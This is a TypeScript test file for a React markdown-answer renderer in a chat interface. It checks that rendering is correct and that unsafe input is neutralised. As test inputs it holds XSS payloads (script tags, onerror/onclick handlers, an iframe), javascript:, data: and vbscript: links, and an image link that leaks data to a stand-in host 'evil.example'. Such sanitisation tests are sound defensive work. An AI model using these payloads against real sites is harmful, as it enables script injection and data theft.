import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownAnswer } from './markdown-answer';
import { loadEmojiPlugin } from '../lib/emoji-plugin';
import { safeUrl } from '../lib/safe-url';

const render = (text: string) => renderToStaticMarkup(<MarkdownAnswer text={text} onLink={() => undefined} />);

describe('markdown answers', () => {
  it('shows shortcodes as typed until the emoji table has loaded (it loads only for them)', () => {
    expect(render('Open :smile:')).toContain(':smile:');
  });

  it('renders GitHub-flavoured markdown and emoji shortcodes', async () => {
    await loadEmojiPlugin();
    const html = render('**Open** 8:00 :smile:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n~~old~~');
    expect(html).toContain('<strong>Open</strong>');
    expect(html).toContain('😄');
    expect(html).toContain('<table>');
    expect(html).toContain('type="checkbox"');
    expect(html).toContain('<del>old</del>');
  });

  it('never renders raw HTML: no script, no event handler, no iframe', () => {
    const html = render(
      'Hi <script>alert(1)</script> <img src=x onerror="alert(2)"> <iframe src="https://evil"></iframe>\n\n<div onclick="x()">d</div>',
    );
    expect(html).not.toMatch(/<script|onerror|<iframe|onclick|<div onclick/i);
    expect(html).toContain('Hi');
  });

  it('makes javascript:, data: and vbscript: links inert, keeps https links', () => {
    const html = render(
      '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<b>x</b>) [d](vbscript:x) [ok](https://example.com/x)',
    );
    expect(html).not.toMatch(/javascript:|data:text|vbscript:/i);
    expect(html).toContain('href="https://example.com/x"');
    expect(html.match(/chat-link-inert/g)?.length).toBe(4);
  });

  it('drops unsafe image sources', () => {
    expect(render('![x](javascript:alert(1))')).not.toContain('<img');
  });

  it('loads no image from a host the site policy does not allow: it becomes a link', () => {
    const html = render('![pic](https://evil.example/leak.png?d=secret)');
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/leak.png?d=secret"');
    expect(html).toContain('>pic</a>');
  });

  it('keeps relative, mailto and tel addresses', () => {
    expect(safeUrl('/poiDetail?id=1')).toBe('/poiDetail?id=1');
    expect(safeUrl('mailto:a@b.c')).toBe('mailto:a@b.c');
    expect(safeUrl('tel:123')).toBe('tel:123');
    expect(safeUrl('\u0001javascript:x')).toBe('');
  });
});
